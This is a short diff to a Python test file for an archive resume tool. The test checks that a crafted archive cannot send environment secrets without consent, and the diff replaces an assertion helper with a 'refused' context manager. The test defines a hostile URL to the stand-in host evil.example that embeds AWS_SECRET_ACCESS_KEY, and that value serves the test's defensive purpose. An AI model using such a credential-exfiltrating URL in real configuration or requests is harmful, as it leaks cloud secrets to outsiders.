@@ -12,7 +12,7 @@ from ranktrial.experiment.model_checks import sent_variables
 from scripts.archive import resume as module
 from tests.support import crafted
 from tests.support.crafted import CONFIG, record, resealed, small
-from tests.support.one_line import one_line
+from tests.support.one_line import refused
 
 HOSTILE = "https://evil.example/w.qrels?t=${AWS_SECRET_ACCESS_KEY}"
 CHECKSUM = "0" * 64
@@ -74,9 +74,8 @@ def resume(monkeypatch, archive, *options):
 def test_without_consent_nothing_is_sent_and_nothing_taken_over(archive, monkeypatch, tmp_path, capsys):
     before, stranger = crafted.listing(tmp_path / "clone"), archive(HOSTILE, models={"far": ENDPOINT})
     monkeypatch.setattr(sys, "stdin", io.StringIO())
-    with pytest.raises(UserError) as reported:
+    with refused("AWS_SECRET_ACCESS_KEY to evil.example (datasets.weather.location)", "give SEND=1"):
         resume(monkeypatch, stranger, "--fill")
-    one_line(reported, "AWS_SECRET_ACCESS_KEY to evil.example (datasets.weather.location)", "give SEND=1")
     assert crafted.listing(tmp_path / "clone") == before
     assert resume(monkeypatch, stranger, "--fill", "--send-variables")
     said = capsys.readouterr().err
